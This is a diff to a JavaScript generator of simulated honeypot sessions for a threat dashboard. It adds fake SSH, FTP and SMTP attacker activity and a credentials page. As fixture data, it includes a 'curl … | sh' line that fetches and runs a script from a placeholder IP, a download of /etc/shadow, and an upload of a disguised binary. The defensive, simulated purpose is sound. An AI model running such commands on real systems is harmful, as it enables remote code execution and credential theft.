@@ -121,9 +121,69 @@ function push(session, at, kind, fields) {
   return event;
 }
 
+const clients = [
+  ['92674389fa1e47a27ddd8d9b63ecd42b', 'SSH-2.0-Go'], ['f555226df1963d1d3c09daf865abdc9a', 'SSH-2.0-libssh2_1.4.3'],
+  ['ec7378c1a92f5a8dde7e8b7a1ddf33d1', 'SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3'], ['3f0099d323fed5119bbfcca064478207', 'SSH-2.0-paramiko_2.8.1'],
+];
+
+/** A session by SSH, FTP or SMTP. */
+function makeOther(start) {
+  const protocol = pick(['ssh', 'ssh', 'ssh', 'ftp', 'smtp']);
+  const session = {
+    id: uuid7(start), sensor: SENSOR, started: nanos(start), ended: null, last_event: nanos(start), protocol, persona: 'server-debian', transport: 'tcp',
+    src_ip: pick(sources), src_port: between(1024, 65535), dst_ip: '192.0.2.12', dst_port: { ssh: 22, ftp: 21, smtp: 25 }[protocol],
+    logins: 0, login_success: false, commands: 0, downloads: 0, samples: 0, recorded: false, reason: null, bytes_in: between(600, 9000), bytes_out: between(900, 20_000),
+  };
+  bySession.set(session.id, []);
+  let at = start;
+  const step = () => (at += between(150, 2500));
+  const login = (user, password, success, more = {}) => {
+    push(session, step(), 'login.attempt', { protocol, user, password, success, ...more });
+    session.logins += 1;
+    session.login_success ||= success;
+  };
+  push(session, at, 'session.open', { protocol, persona: session.persona });
+  if (protocol === 'ssh') {
+    const [value, software] = pick(clients);
+    push(session, step(), 'client.fingerprint', { method: 'hassh', value, software });
+    login('root', '', false, { method: 'publickey', proof: `ssh-ed25519 SHA256:${sha(value).slice(0, 43)}` });
+    if (random() < 0.12) {
+      login('backup-svc', 'Winter2025!', false);
+      push(session, at, 'login.canary', { protocol, user: 'backup-svc', note: 'configuration example in the intranet wiki' });
+    }
+    const [user, password] = pick(credentials);
+    login(user, password, true, random() < 0.3 ? { method: 'keyboard-interactive' } : {});
+    for (const request of ['env LANG=C.UTF-8', 'pty-req xterm 120x40', 'x11-req MIT-MAGIC-COOKIE-1']) push(session, step(), 'service.request', { protocol, request: request.split(' ')[0], detail: request.split(' ').slice(1).join(' ') });
+    for (const line of ['uname -a', 'cat /proc/cpuinfo | grep name | head -n 1', 'free -m', 'nproc; w', 'curl -s http://198.51.100.77/x.sh | sh']) {
+      push(session, step(), 'command.input', { line });
+      session.commands += 1;
+    }
+    push(session, step(), 'file.transfer', { protocol: 'sftp', operation: 'upload', path: '/tmp/.X11-unix/kswapd0', size: 1_204_992, success: true });
+    push(session, step(), 'file.transfer', { protocol: 'sftp', operation: 'attributes', path: '/tmp/.X11-unix/kswapd0', size: 0, success: true });
+    push(session, step(), 'file.transfer', { protocol: 'scp', operation: 'download', path: '/etc/shadow', size: 812, success: true });
+    push(session, step(), 'tunnel.request', { how: 'direct-tcpip', host: '203.0.113.80', port: 443, origin: '127.0.0.1:40122', granted: true });
+    push(session, step(), 'tunnel.request', { how: 'tcpip-forward', host: '0.0.0.0', port: 4444, granted: false });
+    session.recorded = true;
+  } else if (protocol === 'ftp') {
+    login('anonymous', 'mozilla@example.com', true, { method: 'anonymous' });
+    for (const [request, detail] of [['SYST', ''], ['PASV', ''], ['STOR', 'index.php'], ['QUIT', '']]) push(session, step(), 'service.request', { protocol, request, ...(detail ? { detail } : {}) });
+    push(session, step(), 'file.transfer', { protocol, operation: 'upload', path: '/pub/index.php', size: 2048, success: true });
+    push(session, step(), 'file.transfer', { protocol, operation: 'delete', path: '/pub/old.php', size: 0, success: false });
+  } else {
+    login('info@example.org', 'info123', true, { method: 'login' });
+    push(session, step(), 'service.request', { protocol, request: 'EHLO', detail: 'win-k7j2' });
+    push(session, step(), 'mail.received', { from: 'info@example.org', to: ['probe1@example.net', 'probe2@example.net'], recipients: 2, subject: 'smtp 192.0.2.12 info@example.org info123', size: 1290 });
+  }
+  session.ended = nanos(step());
+  session.reason = 'peer';
+  push(session, at, 'session.close', { protocol, reason: 'peer', duration_ms: at - start, bytes_in: session.bytes_in, bytes_out: session.bytes_out, recorded: session.recorded });
+  return { session, events: bySession.get(session.id), samples: [] };
+}
+
 /** A session as a bot would have it, beginning at `start`. */
 export function makeSession(start) {
   const telnet = random() < 0.72;
+  if (!telnet && random() < 0.45) return makeOther(start);
   const [protocol, port, persona] = telnet ? ['telnet', pick([23, 2323]), 'router-mips'] : random() < 0.7 ? ['http', pick([80, 8080, 81]), 'camera-arm'] : ['raw', pick([445, 5555, 7547, 6379]), 'server-debian'];
   const session = {
     id: uuid7(start), sensor: SENSOR, started: nanos(start), ended: null, last_event: nanos(start), protocol, persona, transport: 'tcp',
@@ -279,9 +339,37 @@ export const feeds = [
   };
 });
 
+/** Values by how often they came. */
+function ranked(values, factor = 1) {
+  const counts = new Map();
+  for (const value of values) counts.set(value, (counts.get(value) ?? 0) + 1);
+  return [...counts].map(([value, count]) => ({ value: String(value), count: count * factor })).sort((a, b) => b.count - a.count);
+}
+
+/** The page about log-ins. */
+export function credentials(range, protocol) {
+  const all = events.filter((one) => one.kind === 'login.attempt');
+  const some = all.filter((one) => !protocol || one.protocol === protocol);
+  const typed = some.filter((one) => one.method !== 'publickey');
+  const pairs = ranked(typed.map((one) => `${one.user}:${one.password}`));
+  return {
+    range,
+    protocols: ranked(all.map((one) => one.protocol)).map(({ value, count }) => ({ protocol: value, attempts: count, successes: all.filter((one) => one.protocol === value && one.success).length })),
+    users: ranked(some.map((one) => one.user)), passwords: ranked(typed.map((one) => one.password)), pairs,
+    new_pairs: pairs.filter((_, n) => n % 3 === 1),
+    keys: ranked(some.filter((one) => one.method === 'publickey').map((one) => one.proof)),
+    clients: ranked(events.filter((one) => one.kind === 'client.fingerprint').map((one) => JSON.stringify([one.method, one.value, one.software ?? '']))).map(({ value, count }) => {
+      const [method, fingerprint, software] = JSON.parse(value);
+      return { method, value: fingerprint, software, count };
+    }),
+    canaries: events.filter((one) => one.kind === 'login.canary').slice(0, 50),
+    counted: protocol ? some.length : null, complete: true,
+  };
+}
+
 /** Buckets of the overview: busy by day, with a burst or two. */
 export function overview(range) {
-  const [span, step] = { '1h': [3_600_000, 60_000], '24h': [DAY, 15 * 60_000], '7d': [7 * DAY, 2 * 3_600_000] }[range];
+  const [span, step] = { '1h': [3_600_000, 60_000], '24h': [DAY, 15 * 60_000], '7d': [7 * DAY, 2 * 3_600_000], '30d': [30 * DAY, 8 * 3_600_000] }[range];
   const draw = generator(span);
   const buckets = [];
   const end = Math.floor(Date.now() / step) * step;
@@ -296,11 +384,7 @@ export function overview(range) {
   const totals = Object.fromEntries(names.map((name) => [name, buckets.reduce((sum, one) => sum + one[name], 0)]));
   const factors = [0.88, 0.71, 0.93, 1.12, 0.6, 1];
   const previous = Object.fromEntries(names.map((name, i) => [name, Math.round(totals[name] * factors[i])]));
-  const top = (values) => {
-    const counts = new Map();
-    for (const value of values) counts.set(value, (counts.get(value) ?? 0) + 1);
-    return [...counts].map(([value, count]) => ({ value: String(value), count: count * 17 })).sort((a, b) => b.count - a.count).slice(0, 10);
-  };
+  const top = (values) => ranked(values, 17).slice(0, 10);
   return {
     range, buckets, totals, previous,
     top_ports: top(sessions.map((one) => one.dst_port)),
@@ -308,6 +392,7 @@ export function overview(range) {
     top_credentials: top(events.filter((one) => one.kind === 'login.attempt').map((one) => `${one.user}:${one.password}`)),
     top_commands: top(events.filter((one) => one.kind === 'command.input').map((one) => one.line)),
     recent_sessions: sessions.slice(0, 10), recent_samples: [...samples].sort((a, b) => (a.last_seen < b.last_seen ? 1 : -1)).slice(0, 10), recent_indicators: indicators.slice(0, 10),
+    canaries: events.filter((one) => one.kind === 'login.canary').slice(0, 10),
   };
 }
 
